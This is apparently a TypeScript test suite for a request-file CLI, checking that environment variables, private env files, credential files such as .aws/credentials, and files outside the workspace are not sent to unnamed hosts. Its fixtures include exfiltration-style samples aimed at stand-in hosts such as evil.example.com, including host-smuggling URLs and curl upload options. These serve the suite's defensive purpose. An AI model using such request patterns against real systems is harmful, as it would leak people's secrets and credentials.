import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { NO_HOSTS } from '../../common/trust/trust';
import type { NodeConnection } from '../../runner/connection/connection';
import { createConnections } from '../../runner/connection/connections';
import { takingsOf, takingWords } from '../../runner/send/gate';
import { capture } from '../command-line';

/** What a server or proxy was asked: the URL, the Authorization header and the body. */
interface Asked {
  readonly url: string;
  readonly authorization?: string;
  readonly body: string;
}

const TOKEN = 'tok-0123456789';
const NOT_NAMED = 'a host that you have not named.';

/**
 * Every host is reached through a proxy of the environment, which writes down what would have gone to it. Loopback
 * addresses are reached directly.
 */
describe('addresses and secrets of the terminal', function () {
  this.timeout(60_000);
  let folder = '';
  let outside = '';
  let proxy: Server;
  let node: Server;
  let asked: Asked[] = [];
  const portOf = (server: Server) => (server.address() as AddressInfo).port;

  before(async () => {
    const listen = async (answer: (request: IncomingMessage, body: string) => string) => {
      const server = createServer(async (request, response) => {
        const chunks: Buffer[] = [];
        for await (const chunk of request) chunks.push(chunk as Buffer);
        const body = Buffer.concat(chunks).toString();
        const { authorization } = request.headers;
        asked.push({ url: request.url ?? '', ...(authorization ? { authorization } : {}), body });
        response.setHeader('content-type', 'application/json').end(answer(request, body));
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      return server;
    };
    proxy = await listen((_, body) =>
      body.includes('jsonrpc') ? '{"jsonrpc":"2.0","id":1,"result":"0x1"}' : '{"token":"from-response"}',
    );
    node = await listen(() => '{"jsonrpc":"2.0","id":1,"result":"0x1"}');
  });
  beforeEach(async () => {
    asked = [];
    const base = await mkdtemp(path.join(tmpdir(), 'slotpad-trust-'));
    folder = path.join(base, 'repository');
    outside = base;
    await mkdir(path.join(folder, '.git'), { recursive: true });
    await writeFile(path.join(base, 'outside.txt'), 'outside the folder');
  });
  afterEach(() => rm(outside, { recursive: true }));
  after(async () => {
    for (const server of [proxy, node]) {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  async function send(files: Readonly<Record<string, string>>, ...args: string[]) {
    for (const [name, text] of Object.entries(files)) {
      await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
      await writeFile(path.join(folder, name), text);
    }
    const env = { http_proxy: `http://127.0.0.1:${portOf(proxy)}`, TOKEN };
    const file = Object.keys(files).find((name) => /\.(?:http|jsonrpc)$/.test(name)) ?? 'a.http';
    return capture(['send', file, ...args], { cwd: folder, env });
  }

  async function refused(what: string, host: string, ran: ReturnType<typeof send>) {
    const { code, err, out } = await ran;
    assert.deepEqual(asked, [], 'nothing is sent');
    assert.equal(code, 2, out + err);
    const said = `The request would take ${what} to ${host}, ${NOT_NAMED}`;
    assert.ok((out + err).includes(said), `${out}${err}\n${said}`);
    assert.ok((out + err).includes(`--allow-host ${host}`), out + err);
    assert.ok(!(out + err).includes(TOKEN), 'the value is not shown');
  }

  async function sent(ran: ReturnType<typeof send>): Promise<readonly Asked[]> {
    const { code, err, out } = await ran;
    assert.equal(code, 0, out + err);
    return asked;
  }

  const withToken = 'GET http://api.example.com/a\nAuthorization: Bearer {{$processEnv PATH}}\n';
  const privateFile = (values: object) => JSON.stringify({ dev: values });

  describe('a value of the process environment', () => {
    const what = 'PATH of the process environment';

    for (const [place, text] of [
      ['a header', withToken],
      ['the URL', 'GET http://api.example.com/{{$processEnv PATH}}\n'],
      ['the body', 'POST http://api.example.com/\n\n{{$processEnv PATH}}\n'],
      ['a variable of the file', '@t = x{{$env.PATH}}\n@u = {{t}}\nGET http://api.example.com/?a={{u}}\n'],
      ['a hash', '@t = {{$env.PATH}}\nGET http://api.example.com/{{$keccak %t}}\n'],
    ] as const) {
      it(`stays here when ${place} has it`, () => refused(what, 'api.example.com', send({ 'a.http': text })));
    }

    it('stays here for a node that the file names', () =>
      refused(
        what,
        'api.example.com:8545',
        send({
          'a.jsonrpc': '# @node http://api.example.com:8545\neth_call({"data": "{{$env.PATH}}"}, "latest")\n',
        }),
      ));

    it('stays here for an address behind a Host header, a WebSocket and curl', async () => {
      await refused(
        what,
        'api.example.com',
        send({ 'a.http': 'GET /a/{{$env.PATH}}\nHost: api.example.com\n' }),
      );
      await refused(
        what,
        'api.example.com',
        send({
          'a.jsonrpc': '# @node ws://api.example.com\neth_call({"data": "{{$env.PATH}}"}, "latest")\n',
        }),
      );
      await refused(
        what,
        'api.example.com',
        send({ 'a.http': "curl http://api.example.com/ -H 'X-A: {{$env.PATH}}'\n" }),
      );
    });

    it('goes to a host of --allow-host', async () => {
      const [one] = await sent(send({ 'a.http': withToken }, '--allow-host', 'API.example.com'));
      assert.equal(one?.url, 'http://api.example.com/a');
      assert.equal(one?.authorization, `Bearer ${process.env.PATH}`);
    });

    it('goes to a port of --allow-host alone when it has one', async () => {
      await refused(
        what,
        'api.example.com',
        send({ 'a.http': withToken }, '--allow-host', 'api.example.com:8080'),
      );
      await refused(what, 'api.example.com', send({ 'a.http': withToken }, '--allow-host=example.com'));
      assert.equal((await sent(send({ 'a.http': withToken }, '--allow-host=api.example.com:80'))).length, 1);
    });

    it('goes to a loopback address and to a node of the command line', async () => {
      const local = `http://127.0.0.1:${portOf(node)}`;
      await sent(send({ 'a.http': withToken.replace('http://api.example.com', local) }));
      await sent(send({ 'a.http': withToken }, '--beacon', 'http://api.example.com'));
      await sent(
        send(
          { 'b.jsonrpc': 'eth_call({"data": "{{$env.PATH}}"}, "latest")\n' },
          '--execution',
          'http://rpc.example.com',
        ),
      );
      assert.equal(asked.length, 3);
    });

    it('stays here for another port of a node of the command line', () =>
      refused(
        what,
        'api.example.com:8080',
        send({ 'a.http': withToken.replace('.com', '.com:8080') }, '--beacon', 'http://api.example.com'),
      ));

    it('goes to a host that the process environment or the command line names as a whole', async () => {
      process.env.SLOTPAD_TEST_HOST = 'http://env.example.com';
      try {
        const text = '@host = {{$processEnv SLOTPAD_TEST_HOST}}\nGET {{host}}/{{$env.HOME}}\n';
        await sent(send({ 'a.http': text }));
        await refused(
          'SLOTPAD_TEST_HOST of the process environment and HOME of the process environment',
          'env.example.com.evil.test',
          send({ 'a.http': text.replace('{{host}}/', '{{host}}.evil.test/') }).then((ran) => {
            asked = asked.slice(1);
            return ran;
          }),
        );
        asked = [];
        await refused(
          'SLOTPAD_TEST_HOST of the process environment and HOME of the process environment',
          'evil.test',
          send({ 'a.http': text.replace('{{host}}/', '{{host}}@evil.test/') }),
        );
        await sent(send({ 'a.http': 'GET http://{{h}}:80/{{$env.HOME}}\n' }, '--var', 'h=typed.example.com'));
        assert.equal(asked.length, 1);
      } finally {
        delete process.env.SLOTPAD_TEST_HOST;
      }
    });
  });

  describe('a value of a private environment file', () => {
    it('stays here, also through other variables', async () => {
      const files = {
        'a.http': '@t = Bearer {{token}}\nGET http://api.example.com/\nAuthorization: {{t}}\n',
        'http-client.private.env.json': privateFile({ token: TOKEN }),
      };
      const what = 'token of http-client.private.env.json, "dev"';
      await refused(what, 'api.example.com', send(files, '-e', 'dev'));
      assert.equal((await sent(send(files, '-e', 'dev', '--allow-host=api.example.com'))).length, 1);
    });

    it('goes to a host of the same file', async () => {
      const files = {
        'a.http': 'GET {{base}}/a\nAuthorization: Bearer {{token}}\n',
        'http-client.private.env.json': privateFile({ token: TOKEN, base: 'http://api.example.com' }),
      };
      assert.equal((await sent(send(files, '-e', 'dev')))[0]?.authorization, `Bearer ${TOKEN}`);
    });

    it('does not go to a host of another file, even one of the same name', async () => {
      const files = {
        'sub/a.http': 'GET {{base}}/{{token}}\n',
        '.env': `token=${TOKEN}\n`,
        'sub/.env': 'base=http://evil.example.com\n',
      };
      await refused('token of .env', 'evil.example.com', send(files));
    });

    it('does not go to a host that a shared file is a part of', async () => {
      const files = {
        'a.http': '@sub = evil.example.com/\nGET {{base}}/\nX-A: {{token}}\n',
        'http-client.private.env.json': privateFile({ token: TOKEN, base: 'http://{{sub}}.example.com' }),
      };
      await refused(
        'base of http-client.private.env.json, "dev" and token of http-client.private.env.json, "dev"',
        'evil.example.com',
        send(files, '-e', 'dev'),
      );
    });

    it('stays here when it comes from --env-file, and goes anywhere with --var', async () => {
      await writeFile(path.join(outside, 'ci.env'), `token=${TOKEN}\n`);
      const files = { 'a.http': 'GET http://api.example.com/{{token}}\n' };
      await refused('token of ../ci.env', 'api.example.com', send(files, '--env-file', '../ci.env'));
      assert.equal((await sent(send(files, '--var', 'token=typed')))[0]?.url, 'http://api.example.com/typed');
    });

    it('stays here as {{$dotenv}}', () =>
      refused(
        'key of the .env file',
        'api.example.com',
        send({ 'a.http': 'GET http://api.example.com/{{$dotenv key}}\n', '.env': `key=${TOKEN}\n` }),
      ));

    it('stays here in a request of an imported file, and in default headers', async () => {
      const values = { 'http-client.private.env.json': privateFile({ token: TOKEN }) };
      const what = 'token of http-client.private.env.json, "dev"';
      const { out, err } = await send(
        {
          'a.http': '# @import ./b\n# @ref other\nGET http://127.0.0.1:1/\n',
          b: '# @name other\nGET http://api.example.com/{{token}}\n',
          ...values,
        },
        '-e',
        'dev',
      );
      assert.deepEqual(asked, []);
      assert.ok((out + err).includes(`would take ${what} to api.example.com`), out + err);
      await refused(
        what,
        'api.example.com',
        send(
          {
            'a.http': 'GET http://api.example.com/\n',
            '.vscode/settings.json': '{"rest-client.defaultHeaders": {"X-Token": "{{token}}"}}',
            ...values,
          },
          '-e',
          'dev',
        ),
      );
    });
  });

  it('a value and a header of the files of Visual Studio and kulala stay here too', async () => {
    await refused(
      'token of http-client.env.json.user, "dev"',
      'api.example.com',
      send(
        {
          'a.http': 'GET http://api.example.com/{{token}}\n',
          'http-client.env.json.user': privateFile({ token: TOKEN }),
        },
        '-e',
        'dev',
      ),
    );
    await refused(
      'the header X-Token of http-client.private.env.json',
      'api.example.com',
      send(
        {
          'a.http': 'GET http://api.example.com/\n',
          'http-client.private.env.json': JSON.stringify({
            dev: { $kulalaDefaultHeaders: { 'X-Token': TOKEN } },
          }),
        },
        '-e',
        'dev',
      ),
    );
    await rm(path.join(folder, 'http-client.env.json.user'));
    const shared = { dev: { $kulalaDefaultHeaders: { 'X-Shared': 'a' } } };
    await send(
      {
        'a.http': 'GET http://api.example.com/\n',
        'http-client.private.env.json': '{"dev": {}}',
        'http-client.env.json': JSON.stringify(shared),
      },
      '-e',
      'dev',
    );
    assert.deepEqual(
      asked.map(({ url }) => url),
      ['http://api.example.com/'],
    );
  });

  describe('a file', () => {
    it('outside of the folder stays here, through a link too', async () => {
      const real = path.join(outside, 'outside.txt');
      await symlink(real, path.join(folder, 'link.txt'));
      await mkdir(path.join(folder, 'sub'));
      await symlink(outside, path.join(folder, 'sub', 'linked'));
      for (const written of ['../outside.txt', real, './link.txt', 'sub/linked/outside.txt']) {
        const file = path.resolve(folder, written);
        await refused(
          `the file ${file}`,
          'api.example.com',
          send({ 'a.http': `POST http://api.example.com/\n\n< ${written}\n` }),
        );
      }
    });

    it('that is hidden or has private values stays here', async () => {
      const texts = {
        '.npmrc': 'token',
        'sub/.aws/credentials': 'x',
        'dev.env': 'a=b',
        'http-client.private.env.json': '{}',
      };
      for (const written of Object.keys(texts)) {
        const file = path.join(folder, written);
        const text = `POST http://api.example.com/\n\n< ./${written}\n`;
        await refused(`the file ${file}`, 'api.example.com', send({ 'a.http': text, ...texts }));
      }
    });

    it('of curl and of a form stays here', async () => {
      const file = path.join(outside, 'outside.txt');
      for (const option of ['-d @../outside.txt', '--data-binary @../outside.txt', '-F a=@../outside.txt']) {
        const text = `curl http://api.example.com/ ${option}\n`;
        await refused(`the file ${file}`, 'api.example.com', send({ 'a.http': text }));
      }
    });

    it('of the folder goes anywhere', async () => {
      const text = 'POST http://api.example.com/\n\n< ../shared/body.json\n';
      const [one] = await sent(send({ 'sub/a.http': text, 'shared/body.json': '{"a":1}' }));
      assert.equal(one?.body, '{"a":1}');
    });

    it('outside of the folder goes to an allowed host and to this machine', async () => {
      const text = 'POST http://api.example.com/\n\n< ../outside.txt\n';
      await sent(send({ 'a.http': text }, '--allow-host', 'api.example.com'));
      await sent(send({ 'a.http': text.replace('api.example.com', `localhost:${portOf(node)}`) }));
      assert.deepEqual(
        asked.map(({ body }) => body),
        ['outside the folder', 'outside the folder'],
      );
    });

    it('outside of the folder keeps its variables here', async () => {
      await writeFile(path.join(outside, 'other.http'), '@token = abcdef\n');
      const files = { 'a.http': '# @import ../other.http\nGET http://api.example.com/{{token}}\n' };
      await refused('token of @token in other.http', 'api.example.com', send(files));
    });
  });

  describe('a response', () => {
    const values = { 'http-client.private.env.json': privateFile({ password: TOKEN }) };
    const what = 'password of http-client.private.env.json, "dev"';
    const login = `# @name login\nPOST http://auth.example.com/\n\n{"password":"PASSWORD"}\n\n`;
    const next = '###\nGET http://api.example.com/{{login.response.body.$.token}}\n';

    it('stays with its host when its request took a secret along', async () => {
      const files = { 'a.http': login.replace('PASSWORD', '{{password}}') + next, ...values };
      const ran = await send(files, '--all', '-e', 'dev', '--allow-host', 'auth.example.com');
      assert.equal(ran.code, 1, ran.out + ran.err);
      assert.deepEqual(
        asked.map(({ url }) => url),
        ['http://auth.example.com/'],
      );
      assert.ok(ran.out.includes(`would take ${what} to api.example.com`), ran.out);
    });

    it('goes anywhere when its request took nothing along', async () => {
      await sent(send({ 'a.http': login + next }, '--all'));
      assert.deepEqual(
        asked.map(({ url }) => url),
        ['http://auth.example.com/', 'http://api.example.com/from-response'],
      );
    });
  });

  it('nothing goes in the clear to a proxy that the file names', async () => {
    const text = '# @proxy http://evil.example.com:3128\nGET http://api.example.com/{{$env.HOME}}\n';
    await refused(
      'HOME of the process environment',
      'evil.example.com:3128',
      send({ 'a.http': text }, '--allow-host', 'api.example.com'),
    );
  });

  it('refuses what is not the name of a host', async () => {
    for (const wrong of ['https://api.example.com/', '*.example.com', 'a b', 'u:p@h']) {
      const { code, err } = await send({ 'a.http': withToken }, '--allow-host', wrong);
      assert.equal(code, 2);
      assert.ok(err.includes('--allow-host takes the name of a host'), err);
    }
    assert.deepEqual(asked, []);
  });

  describe('slotpad.config.json', () => {
    const call = { 'a.jsonrpc': 'eth_chainId()\n' };
    const config = (options: object) => ({
      ...call,
      'slotpad.config.json': JSON.stringify({ send: options }),
    });

    it('does not get a token or a JWT by naming an address', async () => {
      const url = `http://127.0.0.1:${portOf(node)}`;
      await writeFile(path.join(outside, 'jwt.hex'), 'a'.repeat(64));
      const where = `127.0.0.1:${portOf(node)}, which slotpad.config.json names`;
      for (const option of [
        ['--token-env', 'TOKEN'],
        ['--jwt-secret', '../jwt.hex'],
        ['--cert', '../c.pem', '--key', '../k.pem'],
      ]) {
        const { code, err } = await send(config({ execution: url }), ...option);
        assert.equal(code, 2, err);
        const said = `${option[0]} would go to ${where}. Give the address on the command line too: --execution URL.`;
        assert.ok(err.includes(said), err);
      }
      assert.deepEqual(asked, []);
    });

    it('may name the address of a request without secrets', async () => {
      await sent(send(config({ execution: `http://127.0.0.1:${portOf(node)}` })));
      assert.equal(asked[0]?.authorization, undefined);
    });

    it('does not allow a host, and gets no values by naming an address', async () => {
      const { err } = await send(config({ 'allow-host': 'api.example.com' }));
      assert.ok(err.includes('Give --allow-host on the command line.'), err);
      await refused(
        'HOME of the process environment',
        'rpc.example.com',
        send({
          ...config({ execution: 'http://rpc.example.com' }),
          'a.jsonrpc': 'eth_call({"data": "{{$env.HOME}}"}, "latest")\n',
        }),
      );
      await refused(
        'HOME of the process environment',
        'rpc.example.com',
        send({
          ...config({ var: 'h=rpc.example.com' }),
          'a.jsonrpc': '# @node http://{{h}}\neth_call({"data": "{{$env.HOME}}"}, "latest")\n',
        }),
      );
    });

    it('has no other way to name an option of the person', async () => {
      for (const name of ['token-env=TOKEN', '-yes', 'yes=', 'output', '']) {
        const { code } = await send(config({ [name]: true }));
        assert.equal(code, 2, name);
      }
      assert.deepEqual(asked, []);
    });

    it('does not name the authority of a host that gets a token', async () => {
      const { code, err } = await send(
        config({ ca: 'ca.pem' }),
        '--token-env',
        'TOKEN',
        '--execution',
        'https://rpc.example.com',
      );
      assert.equal(code, 2);
      const said = 'slotpad.config.json names the authority that vouches for the host of --token-env.';
      assert.ok(err.includes(said), err);
      assert.deepEqual(asked, []);
    });
  });
});

describe('files and proxies that the settings of a workspace name', () => {
  const JWT = 'a'.repeat(64);
  let base = '';
  let workspace = '';

  beforeEach(async () => {
    base = await mkdtemp(path.join(tmpdir(), 'slotpad-trust-'));
    workspace = path.join(base, 'workspace');
    await mkdir(workspace);
    await writeFile(path.join(base, 'jwt.hex'), JWT);
    await writeFile(path.join(workspace, 'jwt.hex'), JWT);
  });
  afterEach(() => rm(base, { recursive: true }));

  /** What a request to the node would take where. */
  async function takings(connection: NodeConnection, wishes: { proxy?: string } = {}) {
    const node = { name: 'dev', kind: 'execution', url: 'http://rpc.example.com/', connection } as const;
    const connections = createConnections({ nodes: () => [node], secretOf: async () => 'secret' });
    const route = await connections.open(new URL(node.url), 'rpc', wishes);
    await connections.close();
    if (!route.ok) assert.fail(route.failure.message);
    return takingsOf({ url: node.url }, NO_HOSTS, route.value).map(takingWords);
  }

  it('do not make a token from a file of the person', async () => {
    const jwtSecretFile = path.join(base, 'jwt.hex');
    assert.deepEqual(await takings({ jwtSecretFile, workspace }), [
      `The request would take the file ${jwtSecretFile} to rpc.example.com, ${NOT_NAMED}`,
    ]);
    await symlink(jwtSecretFile, path.join(workspace, 'link.hex'));
    assert.equal((await takings({ jwtSecretFile: path.join(workspace, 'link.hex'), workspace })).length, 1);
    assert.deepEqual(await takings({ jwtSecretFile: path.join(workspace, 'jwt.hex'), workspace }), []);
    assert.deepEqual(await takings({ jwtSecretFile }), [], 'of user settings');
  });

  it('do not send the token of a node through their proxy in the clear', async () => {
    const proxy = 'http://evil.example.com:3128';
    const said = `The request would take the credentials of the node "dev" to evil.example.com:3128, ${NOT_NAMED}`;
    assert.deepEqual(await takings({ auth: 'bearer' }, { proxy }), [said]);
    assert.deepEqual(await takings({ auth: 'bearer', proxy, workspace }), [said]);
    assert.deepEqual(await takings({ auth: 'bearer', proxy }), [], 'of user settings');
    assert.deepEqual(await takings({}, { proxy }), [], 'without a token');
  });
});
